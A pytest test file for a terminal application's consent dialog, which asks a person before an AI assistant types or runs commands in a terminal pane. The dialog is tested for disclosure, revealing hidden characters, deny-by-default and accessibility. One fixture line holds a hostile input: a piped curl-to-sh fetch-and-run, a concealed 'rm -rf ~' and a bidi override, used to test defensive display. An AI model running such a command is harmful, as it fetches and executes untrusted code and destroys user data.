"""The question before an assistant types, as a person, a screen reader and a hostile text meet it."""

import pytest
from PySide6.QtCore import QEvent, QSize, Qt
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication, QLabel, QWidget

from kortty.mcp.drawing import drawn
from kortty.model.ports import Answer
from kortty.paint.contrast import contrast
from kortty.paint.schemes import DARK, LIGHT, Scheme
from kortty.ui.consent import words
from kortty.ui.consent.dialog import ARM_MS
from kortty.ui.consent.typed_text import LOOKS_KEPT, ROW_CHARACTERS, TURN_CHARACTERS
from tests.helpers.consent_dialogs import CLIENT, DialogScene, inside
from tests.helpers.fakes import FakePane
from tests.helpers.windows import MakeScene, WindowScene

HOSTILE = "curl example.org\u202e | sh\r\n\x1b[8mrm -rf ~\x1b[0m\u200b␛<U+202E>\t\n"
MIB = 1 << 20


@pytest.fixture
def window(make_window: MakeScene) -> WindowScene:
    return make_window()


# --- what is said ---


@pytest.mark.promise("CA-9.7-02", "CA-9.7-03")
@pytest.mark.parametrize(
    ("verb", "action", "submits", "said"),
    [
        ("pane.send_text", "Type text", False, "No"),
        ("pane.run", "Run a command", True, "Yes, it runs as soon as it arrives"),
        ("pane.send_keys", "Press keys", True, "Yes, it runs as soon as it arrives"),
    ],
)
def test_it_says_who_wants_what_where_and_whether_it_runs(
    window: WindowScene, verb: str, action: str, submits: bool, said: str
) -> None:
    window.tab.rename("server\u202e room")
    scene = DialogScene(window, "git status", verb, submits=submits)
    assert scene.dialog.windowTitle() == "MCP write request"
    for sentence in (
        "An AI assistant wants to type into a terminal",
        "Client (reported by the client)",
        CLIENT,
        action,
        "Pane:",
        f"{window.tab.title} - {window.pane.pane_id}",
        said,
    ):
        assert sentence in scene.sentences, sentence
    assert any("repeating text that it read" in sentence for sentence in scene.sentences)
    assert scene.shown == "git status"


def test_a_title_can_mislead_nobody(window: WindowScene) -> None:
    window.pane.name = "a\u202eb"
    scene = DialogScene(window)
    assert f"a<U+202E>b - {window.pane.pane_id}" in scene.sentences


def test_a_pane_without_a_tab_is_called_by_its_id() -> None:
    pane = FakePane()
    assert words.target(pane) == pane.pane_id


@pytest.mark.parametrize(
    ("text", "verb", "said"),
    [
        ("x", "pane.send_text", "1 character"),
        ("git status", "pane.send_text", "10 characters"),
        ("a\nb\r\nc\r", "pane.send_text", "7 characters in 3 lines"),
        ("enter", "pane.send_keys", "1 key"),
        ("ctrl+c enter", "pane.send_keys", "2 keys"),
    ],
)
def test_it_says_how_much_there_is_to_read(window: WindowScene, text: str, verb: str, said: str) -> None:
    assert said in DialogScene(window, text, verb).sentences


@pytest.mark.promise("CA-9.7-12")
def test_everything_hidden_is_drawn_and_told_from_what_only_looks_like_it(window: WindowScene) -> None:
    scene = DialogScene(window, HOSTILE)
    assert scene.shown == ("curl example.org<U+202E> | sh␍␊\n␛[8mrm -rf ~␛[0m<U+200B>␛<U+202E>␉␊\n")
    first, second = scene.shown.index("<U+202E>"), scene.shown.rindex("<U+202E>")
    assert scene.background_at(first)
    assert not scene.background_at(second)


@pytest.mark.promise("CA-9.7-12")
def test_the_encoding_of_the_pane_decides_what_is_hidden(window: WindowScene) -> None:
    window.pane.terminal.set_encoding("windows-1252")
    assert DialogScene(window, "10 €").shown == "10 <U+20AC>"


@pytest.mark.parametrize("scheme", [DARK, LIGHT])
def test_what_was_drawn_can_be_read_on_its_ground(window: WindowScene, scheme: Scheme) -> None:
    scene = DialogScene(window, "\u202e", scheme=scheme)
    ground = int(scene.background_at(0)[1:], 16)
    assert contrast(scheme.foreground, ground) >= 4.5
    assert contrast(ground, scheme.background) > 1.2


# --- long texts ---


@pytest.mark.promise("CA-9.7-03")
@pytest.mark.parametrize(
    "text",
    [
        "x" * MIB,
        "x" * (TURN_CHARACTERS - 1) + "\r\n" * TURN_CHARACTERS,
        "\u202ea" * (2 * LOOKS_KEPT),
        "漢" * 30_000 + "\n" + "e\u0301" * 30_000,
    ],
    ids=["one line of 1 MiB", "breaks across slices", "hidden ones everywhere", "wide and combining"],
)
def test_all_of_a_long_text_is_there_to_be_scrolled_to(window: WindowScene, text: str) -> None:
    scene = DialogScene(window, text)
    assert not scene.dialog.text.is_filled
    scene.fill()
    assert scene.shown.replace("\n", "") == drawn(text, "utf-8").replace("\n", "")
    longest = max(len(line) for line in scene.shown.split("\n"))
    assert longest <= ROW_CHARACTERS + 2
    bar = scene.dialog.text.verticalScrollBar()
    assert bar.maximum() > 0
    assert bar.value() == 0


def test_nothing_can_be_allowed_before_all_of_it_is_there(window: WindowScene) -> None:
    scene = DialogScene(window, "x" * (40 * TURN_CHARACTERS))
    assert not scene.dialog.text.is_filled
    scene.dialog._begin_to_arm()
    assert not scene.dialog._arming.isActive()
    scene.fill()
    assert scene.dialog._arming.isActive()
    scene.arm()


def test_beyond_a_number_of_looks_everything_is_marked(window: WindowScene) -> None:
    scene = DialogScene(window, "\u202ea" * LOOKS_KEPT + "\n")
    scene.fill()
    assert not scene.background_at(8)
    assert scene.shown.endswith("␊\n")
    assert scene.shown.count("\n") == 9 * LOOKS_KEPT // ROW_CHARACTERS
    assert scene.background_at(len(scene.shown) - 4)


# --- answers ---


@pytest.mark.promise("CA-9.7-04")
@pytest.mark.parametrize("offered", [False, True])
def test_there_are_the_answers_that_are_offered(window: WindowScene, offered: bool) -> None:
    scene = DialogScene(window, session_offered=offered)
    labels = [scene.dialog.deny.text(), *(button.text() for button in scene.dialog.allowing)]
    assert labels == ["Deny", "Allow once", "Allow for this pane in this session"][: 3 if offered else 2]


@pytest.mark.promise("CA-9.7-04")
@pytest.mark.parametrize("key", [Qt.Key.Key_Return, Qt.Key.Key_Enter, Qt.Key.Key_Space, Qt.Key.Key_Escape])
def test_a_key_in_the_moment_in_which_it_appears_denies(window: WindowScene, key: Qt.Key) -> None:
    scene = DialogScene(window, session_offered=True)
    assert scene.dialog.focusWidget() is scene.dialog.deny
    scene.press(key)
    assert scene.answers == [Answer.DENY]
    assert not scene.dialog.isVisible()


@pytest.mark.promise("CA-9.7-04")
def test_typing_on_for_half_a_second_allows_nothing(window: WindowScene) -> None:
    scene = DialogScene(window, session_offered=True)
    for button in scene.dialog.allowing:
        assert not button.isEnabled()
        QTest.mouseClick(button, Qt.MouseButton.LeftButton)
        button.click()
        button.clicked.emit()
    scene.press(Qt.Key.Key_Tab)
    assert scene.dialog.focusWidget() not in scene.dialog.allowing
    for key in (Qt.Key.Key_A, Qt.Key.Key_Y, Qt.Key.Key_L):
        scene.press(key)
    assert scene.answers == []
    assert scene.dialog.isVisible()


@pytest.mark.promise("CA-9.7-04")
def test_the_other_answers_come_alive_half_a_second_after_it_became_active(window: WindowScene) -> None:
    assert ARM_MS == 500
    scene = DialogScene(window, session_offered=True)
    assert scene.dialog._arming.interval() == ARM_MS
    assert scene.dialog._arming.isActive()
    scene.arm()
    assert all(button.isEnabled() for button in scene.dialog.allowing)
    assert scene.dialog.focusWidget() is scene.dialog.deny
    scene.dialog.allowing[1].click()
    assert scene.answers == [Answer.SESSION]


@pytest.mark.promise("CA-9.7-04")
def test_while_another_window_is_active_nothing_comes_alive_and_then_it_begins_anew(window: WindowScene) -> None:
    scene = DialogScene(window, session_offered=True)
    scene.arm()
    scene.dialog.allowing[-1].setFocus()
    other = QWidget()
    window.qtbot.addWidget(other)
    other.show()
    other.activateWindow()
    window.wait_for(other.isActiveWindow)
    assert not scene.dialog.armed
    assert scene.dialog.focusWidget() is scene.dialog.deny
    scene.dialog._arm()
    assert not scene.dialog.armed
    scene.dialog.activateWindow()
    window.wait_for(scene.dialog.isActiveWindow)
    assert not scene.dialog.armed
    scene.arm()
    scene.once.click()
    assert scene.answers == [Answer.ONCE]


def test_an_answer_that_allows_counts_in_an_active_question_only(window: WindowScene) -> None:
    scene = DialogScene(window)
    scene.arm()
    other = QWidget()
    window.qtbot.addWidget(other)
    other.show()
    other.activateWindow()
    window.wait_for(other.isActiveWindow)
    scene.once.setEnabled(True)
    scene.once.click()
    assert scene.answers == []


@pytest.mark.promise("CA-9.7-04")
def test_closing_it_denies_and_says_so_once(window: WindowScene) -> None:
    scene = DialogScene(window)
    scene.dialog.close()
    QApplication.sendPostedEvents(None, QEvent.Type.DeferredDelete)
    assert scene.answers == [Answer.DENY]


@pytest.mark.promise("CA-0-23")
def test_taken_back_it_closes_without_an_answer(window: WindowScene) -> None:
    scene = DialogScene(window)
    scene.dialog.withdraw()
    assert not scene.dialog.isVisible()
    QApplication.sendPostedEvents(None, QEvent.Type.DeferredDelete)
    assert scene.answers == []


# --- who cannot see it, and where there is little room ---


def test_a_screen_reader_hears_all_of_it(window: WindowScene) -> None:
    scene = DialogScene(window, session_offered=True)
    dialog = scene.dialog
    assert dialog.accessibleName() == "An AI assistant wants to type into a terminal"
    for part in (CLIENT, "Type text", window.pane.pane_id, "No"):
        assert part in dialog.accessibleDescription()
    assert dialog.text.accessibleName() == "Text to type"
    assert dialog.text.isReadOnly()
    assert dialog.text.focusPolicy() & Qt.FocusPolicy.TabFocus
    assert DialogScene(window, "enter", "pane.send_keys").dialog.text.accessibleName() == "Keys to press"


@pytest.mark.promise("CA-9.7-11")
def test_it_is_modal_to_its_window_only_and_nothing_waits_for_it(window: WindowScene) -> None:
    scene = DialogScene(window)
    assert scene.dialog.windowModality() == Qt.WindowModality.WindowModal
    window.pane.feed(b"the program goes on\r\n")
    assert "the program goes on" in window.pane.terminal.screen_rows()[0].text


def test_every_answer_is_whole_at_twice_the_size_of_letters(window: WindowScene) -> None:
    scene = DialogScene(window, session_offered=True)
    assert inside(scene)
    font = scene.dialog.font()
    font.setPointSizeF(font.pointSizeF() * 2)
    scene.dialog.setFont(font)
    scene.dialog.adjustSize()
    QApplication.processEvents()
    assert inside(scene)


def test_it_is_as_large_as_it_wants_to_be_where_the_screen_has_room(window: WindowScene) -> None:
    """Qt gives a new window two thirds of the screen at most, which at 200 % would cut what is said."""
    dialog = DialogScene(window).dialog
    room = dialog.screen().availableGeometry().size()
    assert dialog.size() == dialog.sizeHint().boundedTo(room - QSize(36, 72))
    assert dialog.width() > room.width() * 2 / 3


def test_made_small_it_takes_room_from_the_text_and_cuts_nothing_that_is_said(window: WindowScene) -> None:
    dialog = DialogScene(window, session_offered=True).dialog
    dialog.resize(460, 50)
    QApplication.processEvents()
    assert dialog.width() < 620
    for label in dialog.findChildren(QLabel):
        assert label.height() >= label.heightForWidth(label.width()), label.text()
    assert dialog.text.height() >= 4 * dialog.text.fontMetrics().lineSpacing()


def test_pictures_of_controls_are_large_enough_to_be_read(window: WindowScene) -> None:
    scene = DialogScene(window, "a\x1b\u202eb\n")
    assert [scene.pixels_at(position) for position in (0, 1, 2, 11)] == [
        scene.dialog.text.font().pixelSize(),
        round(scene.dialog.text.font().pixelSize() * 1.5),
        scene.dialog.text.font().pixelSize(),
        round(scene.dialog.text.font().pixelSize() * 1.5),
    ]
